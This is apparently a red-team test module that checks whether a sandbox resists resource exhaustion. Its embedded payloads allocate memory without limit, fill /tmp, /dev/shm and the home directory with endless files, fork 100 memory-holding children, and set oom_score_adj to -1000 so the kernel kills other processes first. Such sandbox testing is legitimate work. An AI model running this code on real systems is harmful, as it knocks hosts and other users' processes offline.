"""The clean room's memory, in one process and in many, with the kernel told to kill others first."""

from redteam.tricks import plant, play

TITLE = "Exhausting the clean room's memory"
SAYS = "one process that takes all; then 100 small ones and full memory file systems, each declaring itself the last to be killed"

_ONE = """\
_canary("one")
_hold = []
try:
    while True: _hold.append(bytearray(16 << 20))
except MemoryError:
    pass
"""

_MANY = """\
_canary("many")
def _innocent():
    for _p in ("self",):
        try:
            with open("/proc/self/oom_score_adj", "w") as _f: _f.write("0")
        except OSError:
            pass
        try:
            with open("/proc/self/oom_score_adj", "w") as _f: _f.write("-1000")
        except OSError:
            pass
_innocent()
for _place in ("/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp")):
    for _n in range(8):
        try:
            with open(f"{_place}/fill{_n}", "wb") as _f:
                while True: _f.write(bytes(1 << 20))
        except OSError:
            pass
for _ in range(100):
    try:
        if _os.fork() == 0:
            _innocent()
            _hold = bytearray(b"x") * (9 << 20)
            _time.sleep(3)
            _os._exit(0)
    except OSError:
        break
_time.sleep(2)
"""


def acts(script, token):
    return play(plant(token, _ONE), plant(token, _MANY), plant(token, _MANY + "_os._exit(0)\n"))


def landed(seen):
    return seen.ran("one", "many")
